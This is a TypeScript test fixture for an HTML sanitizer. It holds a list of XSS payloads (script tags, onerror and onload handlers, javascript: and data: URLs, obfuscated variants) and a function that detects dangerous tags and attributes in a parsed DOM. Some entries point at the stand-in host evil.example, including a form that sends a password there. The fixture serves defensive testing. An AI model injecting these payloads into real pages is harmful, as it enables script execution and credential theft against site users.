export const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">натисніть</a>',
  '<a href="java\nscript:alert(1)">натисніть</a>',
  '<a href=" &#106;avascript:alert(1)">натисніть</a>',
  '<a href="data:text/html,<script>alert(1)</script>">натисніть</a>',
  '<a href="//evil.example">натисніть</a>',
  '<p style="background:url(javascript:alert(1))">текст</p>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '"><script>alert(1)</script>',
  '<',
  '<a',
  '<a href="javascript:',
  '<!--><img src=x onerror=alert(1)>-->',
];

/** Anything that could act for the citizen, in the DOM that a browser made of the HTML. */
export function dangersIn(body: ParentNode): string[] {
  const found: string[] = [];
  for (const element of body.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (
      /^(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|noscript|video|audio)$/.test(
        tag,
      )
    )
      found.push(tag);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'id' || name === 'class') found.push(`${tag} ${name}`);
      const reference = name === 'href' || name === 'src' || name.endsWith(':href');
      if (reference && !/^(?:https?:|mailto:|tel:|#|\/(?!\/)|[^:]*$)/i.test(value))
        found.push(`${tag} ${name}=${value}`);
    }
  }
  return found;
}
